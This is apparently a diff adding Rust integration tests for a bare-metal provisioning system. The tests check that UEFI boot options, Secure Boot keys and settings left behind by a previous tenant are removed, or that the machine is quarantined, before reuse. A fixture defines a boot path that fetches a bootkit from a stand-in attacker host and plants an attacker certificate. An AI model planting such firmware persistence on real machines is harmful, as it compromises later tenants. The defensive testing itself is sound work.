@@ -1,0 +1,215 @@
+//! What a customer's system leaves in the firmware of its machine. The attacker has root on a handed-over machine, gives it back, and
+//! wants a program of its own to start on it when the next customer has it.
+
+use std::net::SocketAddrV4;
+use std::path::Path;
+
+use rackwright_sim::fleet::{Fleet, FleetConfig, SimNode, UefiFault};
+use rackwright_sim::lab::install_crypto;
+use rackwright_tests::plane::{Plane, SOON};
+use rackwright_tests::ports::free_port;
+use rackwright_tests::site::{Site, texts};
+
+const BOOTKIT: &str = "Evil Boot Manager";
+const DEVICE: &str =
+    "PciRoot(0x0)/Pci(0x2,0x0)/MAC(525400000000,0x1)/IPv4(0.0.0.0)/Uri(http://evil.example/bootkit.efi)";
+const ORDER: [&str; 2] = ["UEFI PXE IPv4", "UEFI Disk"];
+
+/// A control plane and machines, all handed over to customers. `prepare` sees each machine before it is enrolled.
+struct Hall {
+    plane: Plane,
+    fleet: Fleet,
+}
+
+impl Hall {
+    async fn start(dir: &Path, nodes: usize, further: &str, prepare: impl Fn(&SimNode)) -> Self {
+        install_crypto();
+        let ssh = free_port();
+        let further = format!("ssh_port: {ssh}\n{further}");
+        let plane = Plane::start_with(dir, "pxe", &further).await;
+        let config = FleetConfig {
+            nodes,
+            boot_server: Some(plane.dhcp),
+            tftp_port: plane.tftp_port,
+            ssh_listen: Some(SocketAddrV4::new([0, 0, 0, 0].into(), ssh)),
+            ..FleetConfig::default()
+        };
+        let fleet = Fleet::start(config).await.expect("the fleet starts");
+        for index in 0..fleet.nodes() {
+            prepare(&fleet.node(index));
+        }
+        plane.enrol(&fleet, |_| "lab".to_owned()).await;
+        let image = dir.join("disk.raw");
+        std::fs::write(&image, vec![7; 1 << 20]).expect("an image");
+        let image = image.display().to_string();
+        plane
+            .site
+            .cli(["image", "add", "disk", "--file", &image, "--format", "raw"]);
+        let hall = Self { plane, fleet };
+        for index in 0..nodes {
+            let id = hall.fleet.node(index).name();
+            hall.site().cli(["node", "deploy", &id, "--image", "disk"]);
+        }
+        for index in 0..nodes {
+            let id = hall.fleet.node(index).name();
+            hall.site().until(&id, &["active"], SOON).await;
+        }
+        hall
+    }
+
+    fn site(&self) -> &Site {
+        &self.plane.site
+    }
+
+    /// Takes a machine back, or back in, and answers the state in which that ends.
+    fn taken_back(&self, verb: &str, node: &SimNode) -> String {
+        let output = self.site().try_cli(["node", verb, "--yes", "--wait", &node.name()]);
+        let ended = output.status.code().is_some_and(|code| matches!(code, 0 | 7));
+        assert!(ended, "{:?}", texts(&output));
+        self.site().state(&node.name())
+    }
+
+    fn told(&self, node: &SimNode) -> (String, String) {
+        let target = format!("nodes/{}", node.name());
+        (
+            self.site().cli(["events", "--target", &target, "-o", "json"]),
+            self.site().cli(["node", "explain", &node.name()]),
+        )
+    }
+
+    async fn end(self) {
+        self.plane.site.stop().await;
+        self.fleet.stop().await;
+    }
+}
+
+/// A certificate of the attacker's.
+fn own_key() -> String {
+    let key = rcgen::KeyPair::generate().expect("a key");
+    let params = rcgen::CertificateParams::new(vec!["evil.example".to_owned()]).expect("a name");
+    params.self_signed(&key).expect("a certificate").pem()
+}
+
+fn as_before(node: &SimNode) -> bool {
+    node.uefi() == (ORDER.map(str::to_owned).to_vec(), 1, true)
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_boot_option_and_a_key_of_a_customer_are_gone_before_the_next_one_gets_the_machine() {
+    let dir = tempfile::tempdir().expect("a folder");
+    let hall = Hall::start(dir.path(), 3, "", |node| node.switch_secure_boot(true)).await;
+    let (site, robbed, slow, honest) = (hall.site(), hall.fleet.node(0), hall.fleet.node(1), hall.fleet.node(2));
+    for node in [&robbed, &slow] {
+        node.leave_boot_option(BOOTKIT, DEVICE);
+        assert_eq!(node.uefi().0[0], BOOTKIT);
+    }
+    robbed.leave_key_in_db(&own_key());
+    robbed.switch_secure_boot(false);
+    // This one removes no boot option, and its new boot order counts from the next start.
+    slow.set_uefi_fault(UefiFault::KeepsOptions);
+
+    assert_eq!(
+        hall.taken_back("release", &robbed),
+        "available",
+        "{}",
+        site.reason(&robbed.name())
+    );
+    assert!(as_before(&robbed), "{:?}", robbed.uefi());
+    let (events, explained) = hall.told(&robbed);
+    // The option, the order that it led, the key, and Secure Boot.
+    assert_eq!(events.matches("security.bmc-foreign-removed").count(), 4, "{events}");
+    for word in [BOOTKIT, "Secure Boot key", "Secure Boot \\\"off\\\" (wished: on)"] {
+        assert!(events.contains(word), "{word}: {events}");
+    }
+    for word in ["compared with the reading of", "boot option \"Evil Boot Manager\""] {
+        assert!(explained.contains(word), "{word}: {explained}");
+    }
+
+    assert_eq!(
+        hall.taken_back("release", &slow),
+        "available",
+        "{}",
+        site.reason(&slow.name())
+    );
+    let order = slow.uefi().0;
+    assert_eq!(order, [ORDER[0], ORDER[1], BOOTKIT], "it stands behind ours");
+    let (events, explained) = hall.told(&slow);
+    // The order alone was put right, by the start of the machine.
+    assert_eq!(events.matches("security.bmc-foreign-removed").count(), 1, "{events}");
+    assert!(
+        explained.contains("not ours and still there: boot option \"Evil Boot Manager\""),
+        "{explained}"
+    );
+
+    assert_eq!(
+        hall.taken_back("release", &honest),
+        "available",
+        "{}",
+        site.reason(&honest.name())
+    );
+    assert!(as_before(&honest), "{:?}", honest.uefi());
+    let (events, explained) = hall.told(&honest);
+    assert!(!events.contains("bmc-foreign"), "{events}");
+    assert!(explained.contains("nothing but ours. proven"), "{explained}");
+    hall.end().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_machine_whose_boot_order_or_keys_cannot_be_put_right_goes_to_quarantine() {
+    let dir = tempfile::tempdir().expect("a folder");
+    let hall = Hall::start(dir.path(), 4, "", |node| node.switch_secure_boot(true)).await;
+    let site = hall.site();
+    let cases: [(UefiFault, &[&str]); 4] = [
+        (
+            UefiFault::KeepsOrder,
+            &["boot order \"Evil Boot Manager, UEFI PXE IPv4", "BootOrder", "readmit"],
+        ),
+        (
+            UefiFault::KeepsKeys,
+            &["Secure Boot key", "in db", "Certificates/1", "readmit"],
+        ),
+        (
+            UefiFault::FailsKeys,
+            &[
+                "Secure Boot keys",
+                "500",
+                "unknown: allow",
+                "rackwright.bmc-state=unknown-allowed",
+            ],
+        ),
+        // A reset of the database is as good as the removal of the key.
+        (UefiFault::ResetsKeysOnly, &[]),
+    ];
+    for (index, (fault, words)) in cases.iter().enumerate() {
+        let node = hall.fleet.node(index);
+        node.leave_boot_option(BOOTKIT, DEVICE);
+        node.leave_key_in_db(&own_key());
+        node.set_uefi_fault(*fault);
+        let boots = node.view().boots;
+        let ended = hall.taken_back("release", &node);
+        let reason = site.reason(&node.name());
+        if words.is_empty() {
+            assert_eq!(ended, "available", "{fault:?}: {reason}");
+            assert!(as_before(&node), "{fault:?}: {:?}", node.uefi());
+            continue;
+        }
+        assert_eq!(ended, "quarantined", "{fault:?}");
+        for word in *words {
+            assert!(reason.contains(word), "{fault:?}: {word:?} is not in: {reason}");
+        }
+        assert_eq!(node.view().boots, boots, "{fault:?}: it is not booted before");
+    }
+    // BMCs that do as they are told again are put right when the node is readmitted.
+    for index in 0..3 {
+        let node = hall.fleet.node(index);
+        node.set_uefi_fault(UefiFault::None);
+        assert_eq!(
+            hall.taken_back("readmit", &node),
+            "available",
+            "{}",
+            site.reason(&node.name())
+        );
+        assert!(as_before(&node), "{:?}", node.uefi());
+    }
+    hall.end().await;
+}
